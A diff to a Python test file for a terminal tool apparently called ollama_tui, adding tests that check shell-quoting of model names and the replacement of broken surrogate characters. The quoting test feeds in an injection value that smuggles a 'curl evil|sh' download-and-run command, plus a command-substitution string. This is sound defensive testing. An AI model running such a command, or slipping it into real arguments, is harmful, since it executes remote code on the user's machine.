@@ -8,7 +8,24 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ollama_tui.core.text import clean, clean_lines, clean_value, first_line
+from ollama_tui.core.text import clean, clean_lines, clean_value, first_line, in_shell, storable
+
+
+@pytest.mark.parametrize(
+    ("name", "word"),
+    [
+        ("hf.co/acme/tiny:Q4_K_M", "hf.co/acme/tiny:Q4_K_M"),
+        ("x;curl evil|sh", "'x;curl evil|sh'"),
+        ("a'$(b)\x1b", "'a'\"'\"'$(b)'"),
+        ("", "''"),
+    ],
+)
+def test_a_word_for_a_shell_is_one_word(name: str, word: str) -> None:
+    assert in_shell(name) == word
+
+
+def test_what_is_stored_has_no_half_characters() -> None:
+    assert storable("a\x1b\ud800é") == "a\x1b\ufffdé"
 
 
 class TestCleaningALine:
